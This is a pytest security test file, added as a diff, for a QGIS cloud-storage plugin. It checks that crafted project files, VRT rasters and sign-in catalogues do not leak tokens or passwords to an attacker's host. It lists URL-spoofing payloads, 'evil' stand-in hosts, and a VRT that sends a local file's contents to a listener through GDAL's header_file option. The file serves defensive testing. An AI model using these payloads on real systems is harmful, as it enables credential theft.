@@ -1,0 +1,419 @@
+# SPDX-License-Identifier: GPL-2.0-or-later
+"""Project files, rasters and catalogues made by an attacker, who listens on a host of his own.
+
+QGIS requests any URL that a project names, and so it does here: but without anything secret.
+"""
+
+from __future__ import annotations
+
+import base64
+import html
+import json
+import re
+import socket
+import threading
+from urllib.parse import unquote
+
+import pytest
+from osgeo import gdal
+from qgis.core import QgsMapRendererParallelJob, QgsMapSettings, QgsProject, QgsRasterLayer
+from qgis.PyQt.QtCore import QSize
+
+from cog_browser.adapters import path_translation
+from cog_browser.adapters.layers import build_layer
+from cog_browser.gui.layer_loader import LayerLoader
+from cog_browser.gui.place import ObjectAddress
+from cog_browser.storage.connection import Connection
+from cog_browser.storage.credentials import Credentials
+from cog_browser.storage.errors import ConfigurationError
+from cog_browser.storage.gateway_process import GatewayProcess, shared_gateway
+from cog_browser.storage.stores import open_store
+from cog_browser.storage.vsi import gateway_url, running_source
+from tests.support.faults import Fault
+from tests.support.rasters import make_cog
+
+_RANGE = re.compile(r"bytes=(\d+)-(\d+)")
+
+
+@pytest.fixture
+def cog(tmp_path):
+    return make_cog(tmp_path / "scene.tif", 600, 500)
+
+
+@pytest.fixture
+def foreign(fault_proxy, cog):
+    """The attacker's host: answers every path with a raster, and records who asks with what."""
+    data = cog.read_bytes()
+
+    def answer(request):
+        wanted = _RANGE.fullmatch(request.header("Range") or "")
+        if not wanted:
+            return Fault(status=200, body=data, headers={"Accept-Ranges": "bytes"})
+        start, stop = int(wanted[1]), min(int(wanted[2]) + 1, len(data))
+        place = {"Content-Range": f"bytes {start}-{stop - 1}/{len(data)}"}
+        return Fault(status=206, body=data[start:stop], headers=place)
+
+    return lambda host="127.0.0.2", port=0: fault_proxy(None, answer=answer, address=(host, port))
+
+
+@pytest.fixture
+def store(faulty_store, sessions):
+    """A signed-in account, behind proxies that record what is sent to it; paths are translated."""
+    path_translation.install()
+    yield sessions.store(*Connection.from_environment(faulty_store.environment()))
+    QgsProject.instance().clear()
+    path_translation.uninstall()
+
+
+@pytest.fixture
+def container(stack, store, cog, sessions):
+    name = store.create_container(stack.unique_name()).name
+    store.upload(cog, name, "scene.tif")
+    thread = threading.Thread(target=lambda: sessions.remember_root(store))
+    thread.start()
+    thread.join(60)
+    return name
+
+
+def opened(source, tmp_path, cog):
+    """The layer of a project file whose author wrote ``source`` into it."""
+    project = QgsProject()
+    project.addMapLayer(QgsRasterLayer(str(cog), "innocent", "gdal"))
+    path = tmp_path / "project.qgs"
+    assert project.write(str(path))
+    text = path.read_text()
+    assert "./scene.tif" in text
+    path.write_text(text.replace("./scene.tif", html.escape(source)))
+    QgsProject.instance().clear()
+    QgsProject.instance().read(str(path))
+    [layer] = QgsProject.instance().mapLayers().values()
+    settings = QgsMapSettings()
+    settings.setLayers([layer])
+    settings.setExtent(layer.extent())
+    settings.setOutputSize(QSize(100, 100))
+    job = QgsMapRendererParallelJob(settings)
+    job.start()
+    job.waitForFinished()
+    assert QgsProject.instance().write(str(tmp_path / "again.qgs"))
+    return layer
+
+
+def secrets_of(stack, store, faulty_store):
+    """Passwords, every token that was sent to the store, and the gateway's secret paths."""
+    tokens = {r.header("X-Auth-Token") for r in faulty_store.swift.requests} - {None}
+    paths = {url.split("/")[3] for url in shared_gateway()._urls}
+    return stack.secrets() | tokens | paths | {store._auth.access().token}
+
+
+def assert_nothing_is_told(requests, secrets, source):
+    """But for the user name and password that the attacker may have written into the source."""
+    user = re.search(r"http://([^/]+)@", source, re.IGNORECASE)
+    own_words = "Basic " + base64.b64encode(user[1].encode()).decode() if user else None
+    for request in requests:
+        lines = [request.raw_line.decode("latin-1"), *(f"{n}: {v}" for n, v in request.headers)]
+        told = unquote("\n".join(lines)) + request.body.decode("latin-1")
+        assert request.header("X-Auth-Token") is None
+        assert request.header("Cookie") is None
+        assert request.header("Authorization") in (None, own_words)
+        assert [s for s in secrets if s in told] == []
+
+
+def test_the_control_a_project_of_ours_opens_and_is_drawn_with_the_token(
+    store, container, faulty_store, tmp_path, cog
+):
+    faulty_store.clear()
+    layer = opened(store.source(container, "scene.tif"), tmp_path, cog)
+    assert layer.isValid()
+    assert gateway_url(layer.source())
+    assert {r.header("X-Auth-Token") is None for r in faulty_store.swift.requests} == {False}
+
+
+#: name → how the attacker alters our source; {ours} and {his} are host:port. All lead to him.
+TO_HIM = {
+    "another host": ("{ours}", "{his}"),
+    "a user part that reads like our host": ("{ours}", "{ours}@{his}"),
+    "a user part with a password": ("{ours}", "demo:pw@{his}"),
+    "a user part that ends in a backslash": ("{ours}", "{ours}\\@{his}"),
+    "our source behind his": ("http://{ours}", "http://{his}/vsicurl/http://{ours}"),
+    "our source as a query": ("http://{ours}", "http://{his}/?/vsicurl/http://{ours}"),
+    "another scheme of GDAL": ("/vsicurl/http://{ours}", "/vsicurl?url=http://{his}"),
+    "our host as a fragment": ("http://{ours}", "http://{his}/#@{ours}"),
+}
+
+
+@pytest.mark.parametrize("name", TO_HIM)
+def test_a_source_that_looks_like_ours_takes_nothing_secret_to_another_host(
+    store, container, faulty_store, foreign, stack, tmp_path, cog, name
+):
+    listener = foreign()
+    hosts = {"ours": faulty_store.swift.url[7:], "his": listener.url[7:]}
+    old, new = (part.format(**hosts) for part in TO_HIM[name])
+    source = store.source(container, "scene.tif").replace(old, new)
+    secrets = secrets_of(stack, store, faulty_store)
+    faulty_store.clear()
+    layer = opened(source, tmp_path, cog)
+    assert layer.isValid()  # it is a public raster like any other
+    assert gateway_url(layer.source()) is None or hosts["his"] in gateway_url(layer.source())
+    assert listener.requests
+    assert_nothing_is_told(listener.requests, secrets, source)
+    assert faulty_store.swift.requests == []
+    again = (tmp_path / "again.qgs").read_text()
+    assert [s for s in secrets if s in again] == []
+
+
+def test_a_host_whose_name_begins_like_ours_is_told_nothing(
+    store, container, faulty_store, foreign, stack, tmp_path, cog
+):
+    listener = foreign("127.0.0.1")
+    his = listener.url[7:].replace("127.0.0.1", "127.0.0.1.localhost")
+    source = store.source(container, "scene.tif").replace(faulty_store.swift.url[7:], his)
+    secrets = secrets_of(stack, store, faulty_store)
+    opened(source, tmp_path, cog)
+    assert listener.requests
+    assert_nothing_is_told(listener.requests, secrets, source)
+
+
+#: name → how the attacker alters our source. These stay on our host, or lead nowhere.
+TO_US = {
+    "an account whose name begins like ours": (r"(AUTH_\w+)", r"\1y"),
+    "another account": (r"AUTH_\w", "AUTH_"),
+    "dot segments": (r"(AUTH_\w+)/", r"\1/x/../"),
+    "dot segments to another account": (r"(AUTH_\w+)/", r"\1/../AUTH_other/"),
+    "encoded dot segments": (r"(AUTH_\w+)/", r"\1/x/%2e%2e/"),
+    "half encoded dot segments": (r"(AUTH_\w+)/", r"\1/.%2E/\1/"),
+    "an encoded slash": (r"/scene", "%2Fscene"),
+    "an encoded letter": (r"scene", "%73cene"),
+    "a backslash": (r"/scene", r"\\scene"),
+    "a backslash before his host": (r"http://", r"http://{his}\\@"),
+    "a user of ours": (r"http://", "http://demo:pw@"),
+    "another name of our host": (r"127\.0\.0\.1", "localhost"),
+    "another spelling of our host": (r"127\.0\.0\.1", "127.1"),
+    "capitals": (r"http://", "HTTP://"),
+    "two slashes": (r"/v1/", "//v1/"),
+    "a query": (r"$", "?temp_url_sig=0"),
+    "an option of QGIS": (r"$", "|option:NUM_THREADS=2"),
+}
+
+
+@pytest.mark.parametrize("name", TO_US)
+def test_another_spelling_gets_no_token_even_from_our_own_host(
+    store, container, faulty_store, foreign, stack, tmp_path, cog, name
+):
+    listener = foreign()
+    pattern, new = TO_US[name]
+    genuine = store.source(container, "scene.tif")
+    source = re.sub(pattern, new.replace("{his}", listener.url[7:]), genuine)
+    assert source != genuine
+    secrets = secrets_of(stack, store, faulty_store)
+    faulty_store.clear()
+    layer = opened(source, tmp_path, cog)
+    assert not layer.isValid()
+    assert layer.error().summary()
+    assert_nothing_is_told(listener.requests + faulty_store.swift.requests, secrets, source)
+    assert gateway_url(layer.source()) is None
+
+
+def test_a_running_form_of_a_session_that_ended_tells_its_successor_on_the_port_nothing(
+    store, container, faulty_store, foreign, stack, tmp_path, cog
+):
+    ended = GatewayProcess()
+    url = ended.url(store, container, "scene.tif", store.source(container, "scene.tif"))
+    ended.stop()
+    ended._urls.pop(url)  # it was another QGIS
+    listener = foreign("127.0.0.1", int(url.split(":")[2].split("/")[0]))
+    secrets = secrets_of(stack, store, faulty_store)
+    faulty_store.clear()
+    opened(running_source(url), tmp_path, cog)
+    assert listener.requests
+    assert_nothing_is_told(listener.requests, secrets, url)
+    assert faulty_store.swift.requests == []
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "{guess}/scene.tif",
+        "{guess}/../{secret}/scene.tif",
+        "%2e%2e/{secret}/scene.tif",
+        "{secret}/scene.tif.aux.xml",
+        "{secret}/",
+        "{secret}/scene.tif/../../",
+        "scene.tif",
+        "",
+    ],
+)
+def test_a_guessed_path_on_a_gateway_that_runs_reads_nothing(
+    store, container, faulty_store, tmp_path, cog, path
+):
+    gateway = shared_gateway()
+    url = gateway.url(store, container, "scene.tif", store.source(container, "scene.tif"))
+    root, _, rest = url[7:].partition("/")
+    path = path.format(guess="0" * 32, secret=rest.split("/")[0][:-1] + "x")
+    faulty_store.clear()
+    layer = opened(running_source(f"http://{root}/{path}"), tmp_path, cog)
+    assert not layer.isValid()
+    assert layer.error().summary()
+    assert faulty_store.swift.requests == []
+    assert gateway.meter(url).bytes_served == 0
+
+
+def vrt(source, cog):
+    dataset = gdal.Open(str(cog))
+    return (
+        f'<VRTDataset rasterXSize="{dataset.RasterXSize}" rasterYSize="{dataset.RasterYSize}">'
+        '<VRTRasterBand dataType="UInt16" band="1"><SimpleSource>'
+        f"<SourceFilename>{html.escape(source)}</SourceFilename><SourceBand>1</SourceBand>"
+        "</SimpleSource></VRTRasterBand></VRTDataset>"
+    ).encode()
+
+
+@pytest.fixture(params=["his host", "a local file", "a local file that goes to his host"])
+def evil(request, foreign, store, container, stack, tmp_path, cog):
+    """A VRT that a person with write access has put into the container as ``evil.tif``."""
+    listener = foreign()
+    secret = tmp_path / "secret"
+    secret.write_text("X-Stolen: planted\n")
+    source = {
+        "his host": f"/vsicurl/{listener.url}/x.tif",
+        "a local file": str(cog),
+        "a local file that goes to his host": (
+            f"/vsicurl?header_file={secret}&url={listener.url}/x.tif"
+        ),
+    }[request.param]
+    data = vrt(source, cog)
+    (tmp_path / "control.vrt").write_bytes(data)
+    control = gdal.Open(str(tmp_path / "control.vrt"))
+    assert control.ReadRaster()  # GDAL does what the VRT says, if it gets it
+    assert bool(listener.requests) == (request.param != "a local file")
+    stack.connection().put_object(container, "evil.tif", data, content_type="image/tiff")
+    gdal.VSICurlClearCache()
+    listener.clear()
+    return listener
+
+
+def test_a_vrt_in_the_store_is_no_layer_of_a_project(store, container, evil, tmp_path, cog):
+    layer = opened(store.source(container, "evil.tif"), tmp_path, cog)
+    assert not layer.isValid()
+    assert evil.requests == []
+    meter = shared_gateway().meter(gateway_url(layer.source()))
+    assert meter.last_error == (
+        f"“evil.tif” in container “{container}” is no TIFF, so it is not read."
+    )
+    assert meter.bytes_served == 4 * meter.failures  # looked at, not handed out
+
+
+def test_a_vrt_in_the_store_is_refused_in_a_sentence(
+    store, container, evil, workers, message_bar, qtbot
+):
+    loader = LayerLoader(workers, message_bar, lambda connection_id: None)
+    address = ObjectAddress(store.connection.id, container, "evil.tif")
+    loader.add(store, (address,))
+    qtbot.waitUntil(lambda: not loader.is_busy, timeout=15_000)
+    [item] = message_bar.items()
+    assert f"“evil.tif” in container “{container}” is no TIFF" in html.unescape(item.text())
+    assert QgsProject.instance().mapLayers() == {}
+    assert evil.requests == []
+
+
+def test_a_raster_that_becomes_a_vrt_while_it_is_open_stays_what_it_was(
+    store, container, evil, stack, cog
+):
+    built = []
+    thread = threading.Thread(
+        target=lambda: built.append(build_layer(store, container, "scene.tif"))
+    )
+    thread.start()
+    thread.join(60)
+    data = stack.connection().get_object(container, "evil.tif")[1]
+    stack.connection().put_object(container, "scene.tif", data)
+    source = built[0].source()
+    shared_gateway().forget(store.connection.id, container, "scene.tif")
+    gdal.VSICurlClearCache()
+    for running in (
+        source,
+        path_translation.to_running_form(store.source(container, "scene.tif")),
+    ):
+        gdal.PushErrorHandler("CPLQuietErrorHandler")
+        try:
+            assert gdal.Open(running) is None
+        except RuntimeError:  # GDAL's exceptions are on in parts of QGIS
+            pass
+        finally:
+            gdal.PopErrorHandler()
+    assert evil.requests == []
+
+
+@pytest.fixture
+def names(monkeypatch):
+    """Name servers of the test: host name → address and port."""
+    known = {}
+    real = socket.getaddrinfo
+
+    def resolve(host, port, *rest, **options):
+        host, port = known.get(host, (host, port))
+        return real(host, port, *rest, **options)
+
+    monkeypatch.setattr(socket, "getaddrinfo", resolve)
+    return known
+
+
+LEADS_ASTRAY = {
+    "http://storage.evil.co.uk/v1/AUTH_x": "another site, storage.evil.co.uk",
+    "http://keystone.ours.co.uk.evil.org/v1/AUTH_x": "another site",
+    "http://keystone.ours.co.uk@storage.evil.co.uk/v1/AUTH_x": "no usable URL",
+    "http://storage.evil.co.uk\\.ours.co.uk/v1/AUTH_x": "no usable URL",
+    "http://storage.evil.co.uk\\@keystone.ours.co.uk/v1/AUTH_x": "no usable URL",
+    "http://storage.evil.co.uk\t.ours.co.uk/v1/AUTH_x": "no usable URL",
+    "http://[storage.evil.co.uk/v1/AUTH_x": "no usable URL",
+}
+
+
+@pytest.mark.parametrize("version", ["v3", "v1"])
+@pytest.mark.parametrize("away", LEADS_ASTRAY)
+def test_no_token_reaches_a_host_that_a_sign_in_service_was_turned_to(
+    fault_proxy, foreign, names, away, version
+):
+    listener = foreign()
+    home = fault_proxy(None)
+    names["keystone.ours.co.uk"] = ("127.0.0.1", home.port)
+    for host in (
+        "storage.evil.co.uk",
+        "keystone.ours.co.uk.evil.org",
+        "storage.evil.co.uk.ours.co.uk",
+    ):
+        names[host] = ("127.0.0.2", listener.port)
+    if version == "v3":
+        ends = [{"interface": "public", "region_id": "RegionOne", "url": away}]
+        body = {
+            "token": {"project": {}, "catalog": [{"type": "object-store", "endpoints": ends}]},
+        }
+        token = {"X-Subject-Token": "gAAAA-token"}
+        home.add(Fault(status=201, headers=token, body=json.dumps(body).encode()), times=None)
+    else:
+        headers = {"X-Auth-Token": "gAAAA-token", "X-Storage-Url": away}
+        home.add(Fault(status=200, headers=headers), times=None)
+    connection = Connection(
+        "x",
+        auth_mode="password" if version == "v3" else "v1",
+        auth_url=f"http://keystone.ours.co.uk:{home.port}/v3",
+        user_name="demo",
+        project_id="p",
+        region="RegionOne",
+    )
+    with pytest.raises(ConfigurationError, match=LEADS_ASTRAY[away]):
+        list(open_store(connection, Credentials(password="planted")).list_containers())
+    assert home.requests
+    assert listener.requests == []
+
+
+def test_the_control_a_host_of_the_same_owner_gets_the_token(fault_proxy, foreign, names):
+    home, sibling = fault_proxy(None), fault_proxy(None, answer=Fault(status=200, body=b"[]"))
+    names["keystone.ours.co.uk"] = ("127.0.0.1", home.port)
+    names["storage.ours.co.uk"] = ("127.0.0.1", sibling.port)
+    url = "http://storage.ours.co.uk/v1/AUTH_x"
+    home.add(Fault(status=200, headers={"X-Auth-Token": "gAAAA-token", "X-Storage-Url": url}))
+    connection = Connection(
+        "x", auth_mode="v1", auth_url="http://keystone.ours.co.uk/auth/v1.0", user_name="a:b"
+    )
+    assert list(open_store(connection, Credentials(password="planted")).list_containers()) == []
+    assert sibling.requests[0].header("X-Auth-Token") == "gAAAA-token"
